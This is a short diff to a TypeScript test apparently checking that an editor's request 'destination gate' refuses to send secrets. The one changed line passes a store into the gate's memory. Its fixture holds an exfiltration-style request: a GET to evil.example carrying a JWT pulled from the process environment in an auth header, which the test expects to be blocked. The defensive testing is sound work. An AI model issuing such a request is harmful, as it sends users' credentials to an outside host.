@@ -412,7 +412,7 @@ describe("A fresh token", () => {
     // The window of these tests is a remote one, where none is put there at all; what decides is tried with the gate.
     const { DestinationGate } = await import("../../../src/editor/requests/destination/destinationGate");
     const { newGateMemory } = await import("../../../src/editor/requests/destination/gateMemory");
-    const gate = new DestinationGate(newGateMemory());
+    const gate = new DestinationGate(newGateMemory((await activated()).store));
     const document = await opened(`GET https://evil.example/x\nauth: {{$processEnv JWT_APPS_MINE}}\n`);
     const behind = await asking(() => gate.passOnce({ document, app, use: "environment" }, false));
     assert.deepEqual([behind.asked, behind.result], [[], false]);
